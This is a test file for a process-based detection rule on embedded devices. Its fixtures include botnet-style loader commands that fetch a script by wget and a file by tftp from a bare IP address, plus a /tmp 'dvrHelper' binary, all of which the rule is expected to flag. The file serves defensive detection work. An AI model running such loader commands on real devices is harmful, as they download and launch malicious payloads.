import { expect, test } from 'vitest'
import { hitOf, judged } from '@/lib/testing/a-device'
import { aLogin, aProcess, anEvent } from '@/lib/testing/some-events'
import { unexpectedProcess } from './unexpected-process'

test('a program is started from a scratch folder', () => {
  const hit = hitOf(judged(unexpectedProcess, [aProcess(0, '/tmp/dvrHelper', './dvrHelper telnet.x86')]))
  expect(hit).toMatchObject({ subject: '/tmp/dvrHelper', confidence: 0.8 })
  expect(hit.summary).toContain('./dvrHelper telnet.x86')
})

test('a loader fetches a file from a bare address', () => {
  const loader = aProcess(0, '/bin/busybox', 'busybox wget http://198.51.100.7/bins.sh -O -')
  expect(judged(unexpectedProcess, [loader]).status).toBe('found')
  expect(judged(unexpectedProcess, [aProcess(0, '/bin/busybox', 'tftp -g -r m 198.51.100.7')]).status).toBe('found')
})

test('firmware fetches its update by name, and versions look like addresses', () => {
  const update = aProcess(0, '/usr/bin/curl', 'curl https://updates.example.org/camera-1.2.3.4.bin')
  expect(judged(unexpectedProcess, [update]).status).toBe('clear')
})

test('programs of the firmware, and those that end, are expected', () => {
  const ended = anEvent(1, { kind: 'process', action: 'stopped', name: 'x', path: '/tmp/x', user: '', commandLine: '' })
  expect(judged(unexpectedProcess, [aProcess(0, '/usr/sbin/ntpd', 'ntpd -n'), ended]).status).toBe('clear')
})

test('a path of 64 kB is cut, and its raw event is still its evidence', () => {
  const event = aProcess(0, `/tmp/${'x'.repeat(65_536)}`)
  const hit = hitOf(judged(unexpectedProcess, [event]))
  expect(hit.subject.length).toBe(80)
  expect(hit.isEvidence(event)).toBe(true)
})

test('a device that does not report processes cannot be judged', () => {
  expect(judged(unexpectedProcess, [aLogin(0, 'success')]).status).toBe('not-assessed')
})
